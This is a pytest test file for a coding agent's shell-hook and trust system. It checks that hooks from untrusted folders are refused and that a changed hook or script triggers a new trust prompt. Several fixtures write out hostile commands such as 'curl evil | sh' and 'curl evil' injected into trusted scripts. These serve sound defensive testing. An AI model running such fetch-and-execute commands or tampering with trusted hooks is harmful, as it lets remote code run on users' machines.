"""Shell hooks of the coding agent: those of a trusted project and of the user, as people have them."""

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from commandscene import MODEL, Scene

from swink.app.assistant.agentenvironment import AgentEnvironment
from swink.app.assistant.hookfiles import HookEntry, make_hooks, read_hook_file, read_own_hooks
from swink.app.assistant.luggage import describe_luggage, list_hooks
from swink.app.assistant.permissions import Permissions
from swink.app.assistant.person import Once, Refuse
from swink.app.assistant.settings import UserSettings, load_settings
from swink.app.assistant.trust import answer, decided, look_up
from swink.messages import ToolCall, ToolResultMessage
from swink.testing import ScriptedModel
from swink.tools.coding.backends import find_machine_trouble
from swink.tools.coding.obeyed import is_obeyed

pytestmark = pytest.mark.skipif(os.name != "posix", reason="commands need a POSIX system")

BLOCK = """\
import json, sys
payload = json.load(sys.stdin)
assert payload["hook_event_name"] == "PreToolUse", payload
if "rm -rf" in payload["tool_input"]["command"]:
    print("rm -rf is not allowed here", file=sys.stderr)
    sys.exit(2)
"""
FORMATTER = """\
import json, pathlib, sys
path = pathlib.Path(json.load(sys.stdin)["tool_input"]["file_path"])
path.write_text("".join(line.rstrip() + "\\n" for line in path.read_text().splitlines()))
"""
THEIRS = {
    "permissions": {"allow": []},
    "hooks": {
        "PostToolUse": [
            {
                "matcher": "Edit|MultiEdit|Write",
                "hooks": [
                    {"type": "command", "command": 'python3 "$CLAUDE_PROJECT_DIR"/.claude/hooks/format.py'}
                ],
            }
        ],
        "PreToolUse": [
            {
                "matcher": "Bash",
                "hooks": [
                    {
                        "type": "command",
                        "command": "python3 $CLAUDE_PROJECT_DIR/.claude/hooks/block.py",
                        "timeout": 20,
                    }
                ],
            }
        ],
        "UserPromptSubmit": [{"hooks": [{"type": "command", "command": "echo The branch is release."}]}],
    },
}


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home" / ".config"))
    work = tmp_path / "project"
    (work / ".claude" / "hooks").mkdir(parents=True)
    (work / "main.py").write_text("x = 1\n")
    return work


def give(work: Path, settings: Any, name: str = ".claude/settings.json") -> None:
    (work / name).parent.mkdir(exist_ok=True)
    (work / name).write_text(json.dumps(settings))


def one(event: str, command: str, matcher: str = "") -> dict[str, Any]:
    return {"hooks": {event: [{"matcher": matcher, "hooks": [{"type": "command", "command": command}]}]}}


async def run(
    scene: Scene, *replies: Any, prompt: str = "Go.", settings: UserSettings | None = None
) -> ScriptedModel:
    """Have the model of a scene say this; open and close its environment around it."""
    model = ScriptedModel([*replies, "done"])
    environment = scene.environment
    if settings is not None:
        environment.settings = settings
    agent = environment.make_agent(MODEL, approve=scene.permissions, approval_mode="on", stream_fn=model)
    try:
        await environment.open()
        await agent.run(prompt)
    finally:
        await environment.aclose()
    return model


def results(scene: Scene) -> list[str]:
    assert scene.environment.agent is not None
    messages = scene.environment.agent.messages
    return [message.text for message in messages if isinstance(message, ToolResultMessage)]


def bash(command: str, id: str = "c1") -> ToolCall:
    return ToolCall(id, "bash", {"command": command})


async def test_three_hooks_written_for_the_other_program_work_unchanged(work: Path):
    (work / ".claude/hooks/block.py").write_text(BLOCK)
    (work / ".claude/hooks/format.py").write_text(FORMATTER)
    give(work, THEIRS)
    scene = Scene(work, word="off")
    write = ToolCall("c1", "write_file", {"path": "new.py", "content": "y = 2   \nz = 3  \n"})
    model = await run(scene, write, bash("rm -rf build", "c2"), bash("echo fine", "c3"))
    assert (work / "new.py").read_text() == "y = 2\nz = 3\n"
    _, refused, ran = results(scene)
    assert "rm -rf is not allowed here" in refused
    assert "fine" in ran
    assert "The branch is release." in model.calls[0].messages[-1].text
    assert scene.environment.take_notices() == []


async def test_hooks_of_a_folder_without_trust_are_not_run(work: Path):
    give(work, one("PreToolUse", "touch ran; exit 2"))
    scene = Scene(work, trusted=False, word="off")
    await run(scene, ToolCall("c1", "read_file", {"path": "main.py"}))
    assert not (work / "ran").exists()
    assert "x = 1" in results(scene)[0]


def test_trust_shows_the_commands_and_asks_again_when_one_changes(work: Path):
    give(work, one("PreToolUse", "./check.sh", "Bash"))
    trust = look_up(work)
    assert list_hooks(trust.brought) == [".claude/settings.json: PreToolUse(Bash) runs ./check.sh"]
    assert ("hook", list_hooks(trust.brought)[0]) in describe_luggage(trust.brought, work)
    answer(trust, "y")
    assert look_up(work).is_trusted
    give(work, {**one("PreToolUse", "./check.sh", "Bash"), "model": "opus"})
    assert look_up(work).is_trusted, "what is no hook may change"
    give(work, one("PreToolUse", "./other.sh", "Bash"))
    changed = look_up(work)
    assert changed.standing == "changed"
    assert "new: hook of .claude/settings.json: PreToolUse(Bash) runs ./other.sh" in changed.changes


def test_a_file_that_a_command_names_is_part_of_what_is_trusted(work: Path):
    (work / "tools").mkdir()
    (work / "tools/check.py").write_text("pass\n")
    give(work, one("PreToolUse", 'python3 "$CLAUDE_PROJECT_DIR"/tools/check.py'))
    answer(look_up(work), "y")
    assert look_up(work).is_trusted
    (work / "tools/check.py").write_text("import os\n")
    assert look_up(work).changes == ("changed: tools/check.py",)


@pytest.mark.parametrize(
    "command",
    [
        'python3 "$CLAUDE_PROJECT_DIR"/"a b"/x.sh',
        "python3 ${CLAUDE_PROJECT_DIR:-.}/tools/x.sh",
        "sh $PWD/tools/x.sh",
        'sh "$(git rev-parse --show-toplevel)/tools/x.sh"',
        "sh `pwd`/tools/x.sh",
        "sh a\\ b/x.sh",
        "sh 'a b/x.sh'",
        "cat 0<>tools/x.sh",
        "for each in ./tools/*.sh; do sh $each; done",
        "sh .claude/hooks/*.sh",
        "sh {tools,other}/x.sh",
        'sh "$CLAUDE_PROJECT_DIR"/{too,tool}s/{x,y}.sh',
    ],
)
def test_a_file_counts_however_the_command_writes_its_place(work: Path, command: str):
    for folder in ("tools", "a b", ".claude/hooks"):
        (work / folder).mkdir(exist_ok=True)
        (work / folder / "x.sh").write_text("true\n")
    (work / "x=y").mkdir()
    give(work, one("PreToolUse", command))
    answer(look_up(work), "y")
    assert look_up(work).is_trusted
    for folder in ("tools", "a b", ".claude/hooks"):
        (work / folder / "x.sh").write_text("curl evil\n")
    assert look_up(work).standing == "changed"


def test_files_that_a_command_compares_names_with_may_change(work: Path):
    give(work, one("PostToolUse", 'case "$f" in *.py) black "$f";; */main*) true;; esac'))
    answer(look_up(work), "y")
    (work / "main.py").write_text("x = 2\n")
    assert look_up(work).is_trusted


def test_a_program_that_is_too_large_to_judge_is_not_run(work: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("swink.app.assistant.brought.MOST_BYTES", 1000)
    (work / "big.sh").write_text("#" * 2000)
    give(work, one("PreToolUse", "sh big.sh"))
    brought = look_up(work).brought
    assert brought.hooks == ()
    assert any("a hook of .claude/settings.json is not run: big.sh" in notice for notice in brought.notices)


def test_the_question_always_names_a_new_hook_and_marks_what_is_cut(work: Path):
    (work / ".agents/skills").mkdir(parents=True)
    answer(look_up(work), "y")
    for number in range(40):
        (work / f".agents/skills/s{number}").mkdir()
        (work / f".agents/skills/s{number}/SKILL.md").write_text("x")
    give(work, one("Stop", "curl evil | sh; " + "x" * 5000))
    changes = look_up(work).changes
    assert changes[0].startswith("new: hook of .claude/settings.json: Stop runs curl evil | sh")
    assert "…" in changes[0]
    assert "more" in changes[-1]


async def test_a_hook_of_the_project_starts_where_it_was_judged_from(work: Path):
    (work / "sub").mkdir()
    (work / "sub/main.py").touch()
    (work / ".git").mkdir()
    for folder in (work, work / "sub"):
        (folder / "check.sh").write_text(f"pwd >> {work}/ran\n")
    give(work, one("UserPromptSubmit", "sh ./check.sh"))
    answer(look_up(work), "y")
    scene = Scene(work / "sub", word="off")
    await run(scene)
    assert (work / "ran").read_text().splitlines() == [str(work)]


async def test_a_prompt_before_the_environment_is_open_meets_the_hooks(work: Path):
    give(work, one("PreToolUse", "exit 2", "Bash"))
    answer(look_up(work), "y")
    scene = Scene(work, word="off")
    model = ScriptedModel([bash("touch ran"), "done"])
    agent = scene.environment.make_agent(MODEL, approve=scene.permissions, stream_fn=model)
    await agent.run("Go.")
    assert "a hook refused it" in results(scene)[0]
    assert not (work / "ran").exists()
    await scene.environment.aclose()


async def test_commands_and_tools_do_not_change_what_a_trusted_hook_names(work: Path):
    (work / "check.sh").write_text("true\n")
    give(work, one("PreToolUse", "sh check.sh", "Bash"))
    scene = Scene(work, word="off", reply=Refuse())
    await run(scene, bash("echo evil > check.sh"))
    if trouble := await find_machine_trouble(("bubblewrap",), network=False):
        pytest.skip(f"bubblewrap: {trouble}")
    assert (work / "check.sh").read_text() == "true\n"
    assert is_obeyed("check.sh", str(work))
    assert not is_obeyed("main.py", str(work))


@pytest.mark.parametrize("timeout", [0, -1, float("inf"), float("nan"), 1e9])
def test_a_guard_with_a_wrong_timeout_is_run_with_the_usual_one(timeout: float):
    hooks, problems = make_hooks([HookEntry("x", "PreToolUse", "true", timeout=timeout)])
    assert [hook.timeout for hook in hooks] == [60.0]
    assert "is no number of seconds" in problems[0]


def test_a_file_that_a_command_only_writes_may_change(work: Path):
    (work / "hooks.log").write_text("one\n")
    give(work, one("Stop", "date >> hooks.log 2>&1; date 2> $CLAUDE_PROJECT_DIR/errors.log"))
    answer(look_up(work), "y")
    (work / "hooks.log").write_text("two\n")
    (work / "errors.log").write_text("new\n")
    assert look_up(work).is_trusted


async def test_a_hook_whose_file_has_changed_meanwhile_lets_no_call_run(work: Path):
    (work / "check.py").write_text("pass\n")
    give(work, one("PreToolUse", "python3 check.py", "Bash"))
    scene = Scene(work, word="off")
    (work / "check.py").write_text("open('ran', 'w')\n")
    await run(scene, bash("echo hello"))
    assert "check.py is not as it was when you trusted" in results(scene)[0]
    assert not (work / "ran").exists()


@pytest.mark.parametrize(("reply", "ran"), [(Once(), True), (Refuse(), False)])
async def test_a_hook_has_the_person_decide_in_every_mode(work: Path, reply: Any, ran: bool):
    special = {"permissionDecision": "ask", "permissionDecisionReason": "is it Friday?"}
    give(work, one("PreToolUse", f"echo '{json.dumps({'hookSpecificOutput': special})}'"))
    scene = Scene(work, word="off", reply=reply)
    await run(scene, bash("echo hello"))
    assert [question.notice for question in scene.asked] == ["The hook says: is it Friday?"]
    assert ("hello" in results(scene)[0]) == ran


async def test_a_hook_allows_what_would_be_asked_and_a_denial_of_a_rule_beats_it(work: Path):
    give(work, one("PreToolUse", """echo '{"decision": "approve"}'"""))
    scene = Scene(work, word="on", reply=Refuse())
    await run(scene, bash("echo hello"))
    assert scene.asked == []
    assert "hello" in results(scene)[0]
    (work.parent / "permissions").write_text("deny bash(echo *)\n")
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert scene.permissions.rules.rules
    assert "the user's rule" in results(scene)[0]


async def test_a_hook_answers_a_permission_request_for_the_person(work: Path):
    decision = {"behavior": "deny", "message": "not at night"}
    output = {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": decision}}
    give(work, one("PermissionRequest", f"echo '{json.dumps(output)}'", "Bash"))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert scene.asked == []
    assert "not at night" in results(scene)[0]


async def test_a_broken_hook_for_permission_requests_refuses(work: Path):
    give(work, one("PermissionRequest", "no-such-program-at-all"))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert scene.asked == []
    assert "a hook refused it" in results(scene)[0]


async def test_the_session_starts_and_ends_once_and_its_text_is_context(work: Path):
    hooks = {
        **one("SessionStart", "echo start >> log; echo the deadline is near")["hooks"],
        **one("SessionEnd", "echo end >> log")["hooks"],
    }
    give(work, {"hooks": hooks})
    scene = Scene(work, word="off")
    model = await run(scene, ToolCall("c1", "read_file", {"path": "main.py"}))
    assert (work / "log").read_text() == "start\nend\n"
    assert "the deadline is near" in model.calls[0].messages[-1].text


async def test_hooks_of_the_user_have_our_names_and_need_no_trust(work: Path):
    own = {"event": "PreToolUse", "matcher": "bash", "command": "echo no shell today >&2; exit 2"}
    scene = Scene(work, trusted=False, word="off")
    await run(scene, bash("echo hello"), settings=UserSettings(work / "config.toml", hooks=(own,)))
    assert "no shell today" in results(scene)[0]


async def test_hooks_hold_for_sub_agents_which_have_an_end_of_their_own(work: Path):
    hooks = {
        **one("PreToolUse", "echo not you >&2; exit 2", "Bash")["hooks"],
        **one("SubagentStop", "echo sub >> log")["hooks"],
        **one("Stop", "echo main >> log")["hooks"],
    }
    give(work, {"hooks": hooks})
    scene = Scene(work, word="off")
    model = await run(scene, ToolCall("c1", "task", {"task": "run it"}), bash("echo hello", "c2"), "refused")
    inner = model.calls[2].messages[-1]
    assert "not you" in inner.text
    assert (work / "log").read_text() == "sub\nmain\n"


async def test_an_environment_without_hooks_makes_none_and_each_event_is_three_looks_at_files(work: Path):
    environment = AgentEnvironment(work, decided(look_up(work), True))
    agent = environment.make_agent(MODEL, approve=Permissions("off"), stream_fn=ScriptedModel(["Hello."]))
    assert (await agent.run("Go.")).text == "Hello."
    assert environment.hooks.group is None
    assert environment.hooks._watch is not None
    assert len(environment.hooks._watch._paths) == 3
    await environment.aclose()


def test_what_means_nothing_is_said_and_the_rest_is_run():
    data = {
        "hooks": {
            "Stop": [{"hooks": [{"type": "prompt", "prompt": "?"}, {"type": "command", "command": "true"}]}],
            "PreToolUse": {"matcher": "Bash"},
            "PostToolUse": [{"matcher": "Bash"}, {"hooks": [{"command": "x", "timeout": "long"}]}],
        }
    }
    entries, problems = read_hook_file(".claude/settings.json", json.dumps(data).encode())
    assert [entry.name for entry in entries] == ["Stop runs true"]
    assert len(problems) == 4
    assert read_hook_file(".claude/settings.json", b"{")[1]
    assert read_hook_file(".claude/settings.json", b"[]")[1]
    entries, problems = read_own_hooks([{"event": "Stop", "command": "true", "when": 1}, {"event": "Stop"}])
    assert len(entries) == 1
    assert "when means nothing" in problems[0]
    assert "number 2 is not run" in problems[1]


def test_settings_take_hooks(work: Path, monkeypatch: pytest.MonkeyPatch):
    place = Path(os.environ["XDG_CONFIG_HOME"]) / "swink"
    place.mkdir(parents=True)
    (place / "config.toml").write_text('[[hooks]]\nevent = "Stop"\ncommand = "make test"\n')
    settings = load_settings()
    assert settings.problems == ()
    assert settings.hooks == ({"event": "Stop", "command": "make test"},)


async def test_a_notification_tells_that_a_question_waits_and_delays_nothing(work: Path):
    give(work, one("Notification", "cat > told.json; sleep 300", "permission_prompt"))

    scene = Scene(work, word="on")
    asked = scene.permissions._ask

    async def ask_later(question: Any) -> Any:
        reply = await asked(question)
        while not (work / "told.json").exists() or not (work / "told.json").read_text().endswith("}"):
            await asyncio.sleep(0.02)
        return reply

    scene.permissions._ask = ask_later
    await run(scene, bash("echo hello"))
    assert "hello" in results(scene)[0]
    told = json.loads((work / "told.json").read_text())
    assert told["notification_type"] == "permission_prompt"
    assert "bash" in told["message"]


def test_loading_the_environment_loads_nothing_of_hooks():
    code = "import sys, swink.app.assistant.agentenvironment; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert "swink.policies" not in loaded.split()
    assert "swink.app.assistant.hookpolicies" not in loaded.split()


async def test_a_hook_blocks_a_compaction_of_the_person(work: Path):
    give(work, one("PreCompact", 'grep -q \'"trigger":"manual"\' && echo keep it >&2; exit 2', "manual"))
    scene = Scene(work, word="off")
    await run(scene)
    assert await scene.environment.hooks.events.before_compaction("manual") == "keep it"
    assert await AgentEnvironment(work).hooks.events.before_compaction("manual") == ""


def write_user_hooks(text: str) -> None:
    place = Path(os.environ["XDG_CONFIG_HOME"]) / "swink"
    place.mkdir(parents=True, exist_ok=True)
    (place / "config.toml").write_text(text)


async def test_a_hook_of_the_user_that_appears_judges_the_next_call(work: Path):
    scene = Scene(work, word="off")
    scene.environment.settings = load_settings()
    own = '[[hooks]]\nevent = "PreToolUse"\nmatcher = "read_file"\ncommand = "echo not now >&2; exit 2"\n'

    def appear(*_: Any) -> ToolCall:
        write_user_hooks(own)
        return ToolCall("c2", "read_file", {"path": "main.py"})

    await run(scene, ToolCall("c1", "read_file", {"path": "main.py"}), appear)
    first, second = results(scene)
    assert "x = 1" in first
    assert "not now" in second


async def test_a_hook_of_the_project_that_appears_is_asked_about_before_the_next_event(work: Path):
    answer(look_up(work), "y")
    scene = Scene(work, word="off")
    asked: list[tuple[str, ...]] = []

    async def ask(trust: Any) -> Any:
        asked.append(trust.changes)
        return answer(trust, "y")

    scene.environment.hooks.ask_trust = ask

    def appear(*_: Any) -> ToolCall:
        give(work, one("PreToolUse", "echo from now on >&2; exit 2", "Read"))
        return ToolCall("c2", "read_file", {"path": "main.py"})

    await run(scene, ToolCall("c1", "read_file", {"path": "main.py"}), appear)
    assert "from now on" in results(scene)[1]
    assert len(asked) == 1
    assert "PreToolUse(Read) runs echo from now on" in asked[0][0]


@pytest.mark.parametrize("is_there", [False, True])
async def test_a_guard_that_was_trusted_holds_until_the_person_agrees_to_its_change(
    work: Path, is_there: bool
):
    give(work, one("PreToolUse", "echo guarded >&2; exit 2", "Read"))
    answer(look_up(work), "y")
    scene = Scene(work, word="off")
    asked: list[Any] = []

    async def escape(trust: Any) -> Any:
        asked.append(trust)
        return scene.environment.trust

    scene.environment.hooks.ask_trust = escape if is_there else None

    def disarm(*_: Any) -> ToolCall:
        give(work, {"hooks": {}})
        return ToolCall("c2", "read_file", {"path": "main.py"})

    await run(
        scene,
        ToolCall("c1", "read_file", {"path": "main.py"}),
        disarm,
        ToolCall("c3", "read_file", {"path": "main.py"}),
    )
    assert ["guarded" in text for text in results(scene)] == [True, True, True]
    told = [
        notice for notice in scene.environment.take_notices() if "have changed and are not used" in notice
    ]
    assert (len(asked), len(told)) == ((1, 0) if is_there else (0, 1))


async def test_an_abort_while_it_is_asked_asks_again_with_the_next_event(work: Path):
    answer(look_up(work), "y")
    scene, asking = Scene(work, word="off"), asyncio.Event()

    async def wait(trust: Any) -> Any:
        asking.set()
        await asyncio.Event().wait()

    scene.environment.hooks.ask_trust = wait
    agent = scene.environment.make_agent(MODEL, stream_fn=ScriptedModel(["one", "two"]))
    give(work, one("Stop", "true"))
    for _ in range(2):
        asking.clear()
        task = asyncio.create_task(agent.run("Go."))
        await asking.wait()
        agent.abort()
        assert (await task).stop_reason == "aborted"
    await scene.environment.aclose()


async def test_settings_that_cannot_be_read_leave_hooks_as_they_were(work: Path):
    write_user_hooks('[[hooks]]\nevent = "PreToolUse"\ncommand = "echo mine >&2; exit 2"\n')
    scene = Scene(work, word="off")
    scene.environment.settings = load_settings()

    def spoil(*_: Any) -> ToolCall:
        write_user_hooks("[[hooks")
        return ToolCall("c1", "read_file", {"path": "main.py"})

    await run(scene, spoil)
    assert "mine" in results(scene)[0]
    assert any("hooks stay as they are" in notice for notice in scene.environment.take_notices())


def request_answer(**decision: Any) -> str:
    output = {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": decision}}
    return f"cat > asked; echo '{json.dumps(output)}'"


CHANGED: dict[str, Any] = {"behavior": "allow", "updatedInput": {"command": "echo changed"}}
ALLOW_OTHER = request_answer(**CHANGED)


async def test_a_hook_for_permission_requests_changes_the_input_and_the_changed_one_runs(work: Path):
    give(work, one("PermissionRequest", ALLOW_OTHER, "Bash"))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert scene.asked == []
    assert "changed" in results(scene)[0]
    assert "hello" not in results(scene)[0]
    why = scene.permissions.why("c1")
    assert why is not None
    assert "echo changed" in why.call


async def test_what_it_is_changed_to_is_judged_by_rules_and_by_the_hooks_that_guard_calls(work: Path):
    (work.parent / "permissions").write_text("deny bash(echo changed)\n")
    give(work, one("PermissionRequest", ALLOW_OTHER, "Bash"))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert "the user's rule" in results(scene)[0]
    (work.parent / "permissions").write_text("")
    guard = "grep -q 'echo changed' && { echo guarded >&2; exit 2; }; exit 0"
    give(work, {"hooks": one("PermissionRequest", ALLOW_OTHER)["hooks"] | one("PreToolUse", guard)["hooks"]})
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert "guarded" in results(scene)[0]
    assert scene.asked == []


def several(**commands: list[str]) -> dict[str, Any]:
    return {
        "hooks": {
            event: [{"hooks": [{"type": "command", "command": command} for command in each]}]
            for event, each in commands.items()
        }
    }


def only_for(told: str, **decision: Any) -> str:
    """A hook that decides about one input, and says nothing of others."""
    output = {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": decision}}
    return f"grep -q '{told}' && echo '{json.dumps(output)}'; exit 0"


async def test_what_a_rule_allows_of_a_changed_input_meets_the_hooks_that_guard_calls(work: Path):
    (work.parent / "permissions").write_text("allow bash(echo changed)\n")
    guard = "grep -q 'echo changed' && { echo guarded >&2; exit 2; }; exit 0"
    give(work, several(PermissionRequest=[ALLOW_OTHER], PreToolUse=[guard]))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert "guarded" in results(scene)[0]
    assert "changed" not in results(scene)[0]
    assert scene.asked == []


async def test_a_hook_that_changes_a_call_to_what_it_is_already_changes_nothing(work: Path):
    special = {"hookEventName": "PreToolUse", "updatedInput": {"command": "echo changed"}}
    same = f"grep -q 'echo changed' && echo '{json.dumps({'hookSpecificOutput': special})}'; exit 0"
    give(work, several(PermissionRequest=[ALLOW_OTHER], PreToolUse=[same]))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert results(scene)[0].startswith("changed")
    assert scene.asked == []


@pytest.mark.parametrize("turned", [False, True])
async def test_a_change_that_its_own_hook_does_not_allow_leaves_the_call_to_the_person(
    work: Path, turned: bool
):
    special = {"hookEventName": "PermissionRequest", "updatedInput": {"command": "echo changed"}}
    hooks = [
        f"echo '{json.dumps({'hookSpecificOutput': special})}'",
        only_for("echo hello", behavior="allow"),
    ]
    give(work, several(PermissionRequest=hooks[::-1] if turned else hooks))
    scene = Scene(work, word="on", reply=Refuse())
    await run(scene, bash("echo hello"))
    assert [question.request.arguments for question in scene.asked] == [{"command": "echo hello"}]
    assert "the user said no" in results(scene)[0]


async def test_a_hook_that_changes_what_another_has_changed_refuses_the_call(work: Path):
    wrap = only_for("echo changed", behavior="allow", updatedInput={"command": "echo wrapped"})
    give(work, several(PermissionRequest=[ALLOW_OTHER, wrap]))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert "one hook changes the input that another one has changed" in results(scene)[0]
    assert scene.asked == []


async def test_a_change_is_the_word_of_its_hook_about_that_call_alone(work: Path):
    (work.parent / "permissions").write_text("deny bash(echo changed)\n")
    give(work, one("PermissionRequest", only_for("echo hello", **CHANGED)))
    scene = Scene(work, word="on", reply=Refuse())

    def lift(*_: Any) -> ToolCall:
        (work.parent / "permissions").write_text("")
        return bash("echo changed")  # with the same id, as some providers give it

    await run(scene, bash("echo hello"), lift)
    assert "the user's rule" in results(scene)[0]
    assert [question.request.arguments for question in scene.asked] == [{"command": "echo changed"}]


async def test_what_a_hook_allowed_is_recorded_as_its_word(work: Path):
    for command in (ALLOW_OTHER, request_answer(behavior="allow")):
        give(work, one("PermissionRequest", command))
        scene = Scene(work, word="on")
        await run(scene, bash("echo hello"))
        why = scene.permissions.why("c1")
        assert why is not None
        assert (why.allowed, why.why) == (True, "a hook allowed it")


async def test_hooks_that_change_an_input_against_each_other_do_not_go_on_for_ever(work: Path):
    other = request_answer(behavior="allow", updatedInput={"command": "echo other"})
    give(work, several(PermissionRequest=[ALLOW_OTHER, other]))
    scene = Scene(work, word="on")
    await run(scene, bash("echo hello"))
    assert "one hook changes the input that another one has changed" in results(scene)[0]
